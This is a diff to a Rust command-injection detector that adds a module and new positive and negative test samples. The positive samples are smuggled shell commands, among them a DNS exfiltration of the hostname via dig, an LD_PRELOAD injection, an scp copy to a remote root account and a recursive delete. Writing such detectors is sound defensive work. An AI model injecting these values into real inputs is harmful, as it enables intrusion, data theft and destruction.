@@ -10,6 +10,7 @@ mod grammar;
 mod line;
 mod place;
 mod separator;
+mod wrapper;
 
 use super::text_field::{self, TextField};
 use super::{Detector, Match, Samples, Subject, is_document, shown};
@@ -87,6 +88,13 @@ pub const DETECTOR: Detector = Detector {
             ";unzip x",
             "||aws s3 ls",
             ";./x.sh",
+            "; chmod 755 /srv/www",
+            "; cp a.php b.php",
+            "x; scp a root@host:b",
+            "; docker ps",
+            "; dig `hostname`.a.example",
+            "; export LD_PRELOAD=/tmp/a.so",
+            "& rd /s /q x",
         ],
         negative: &[
             "while true; do you know what I mean?",
@@ -135,6 +143,13 @@ pub const DETECTOR: Detector = Detector {
             "; groups",
             ";find the others",
             "; ip address",
+            "x; git 2.0 release",
+            "Smith; ip 12/3",
+            "$(HOST):80",
+            "Valgrind massif.out parser",
+            "; docker images",
+            "; use `id` here",
+            "export AWS_PROFILE=user1",
         ],
     },
 };
